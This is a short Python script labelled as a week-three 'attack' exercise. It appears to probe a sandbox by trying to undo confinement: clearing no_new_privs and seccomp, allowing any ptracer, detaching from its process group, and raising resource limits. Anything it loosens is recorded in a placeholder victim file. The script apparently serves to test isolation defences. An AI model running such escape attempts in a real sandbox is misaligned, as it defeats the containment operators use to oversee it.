"""Undoes what ties it to its parent: the signal at its parent's death, no_new_privs, dumpable, the group."""
# attack: week=03 exercise=pyramid
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
PDEATHSIG, DUMPABLE, SUBREAPER, NO_NEW_PRIVS, SECCOMP, MM, TSC, PTRACER = 1, 4, 36, 38, 22, 35, 26, 0x59616D61
loosened = []
for option, value in ((PDEATHSIG, 0), (DUMPABLE, 1), (SUBREAPER, 1), (NO_NEW_PRIVS, 0), (SECCOMP, 0), (MM, 1), (TSC, 2), (PTRACER, -1)):
    result = libc.prctl(option, ctypes.c_ulong(value & (1 << 64) - 1), 0, 0, 0)
    print(option, result, os.strerror(ctypes.get_errno()))
    if result >= 0:
        loosened.append(option)
for act in (os.setsid, lambda: os.setpgid(0, 0), lambda: os.setpgid(0, os.getppid()), lambda: os.tcsetpgrp(0, os.getppid())):
    try:
        act()
        loosened.append(act)
    except OSError as error:
        print("refused", error)
for name in ("AS", "DATA", "CPU", "FSIZE", "NOFILE"):
    soft, hard = resource.getrlimit(getattr(resource, f"RLIMIT_{name}"))
    try:
        resource.setrlimit(getattr(resource, f"RLIMIT_{name}"), (hard + 1, hard + 1))
        loosened.append(name)
    except (OSError, ValueError) as error:
        print("refused", error)
if loosened:
    print("SURPRISE", loosened)
    open("@VICTIM@", "a").write(str(loosened))
